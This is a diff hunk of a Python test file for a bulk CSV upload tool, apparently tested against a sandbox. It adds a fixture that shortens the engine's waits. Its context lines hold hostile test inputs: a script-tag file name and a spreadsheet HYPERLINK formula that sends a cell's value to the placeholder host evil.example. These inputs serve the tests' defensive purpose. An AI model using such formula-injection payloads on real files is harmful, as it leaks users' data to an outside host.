@@ -29,6 +29,10 @@ from lf_bulk.sandbox.seed import DEMO_GROUP, PILOT_GROUP
 from lf_bulk.sandbox.state import SandboxState
 from lf_bulk.settings import SANDBOX_PARTNER_CODE
 
+# The engine's waits scaled to the test sandbox (conftest.quick_engine): these tests are about
+# what a job does, not about how long it waits.
+pytestmark = pytest.mark.usefixtures("quick_engine")
+
 HOSTILE_NAME = "<script>.csv"
 HOSTILE_CELLS = (
     '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
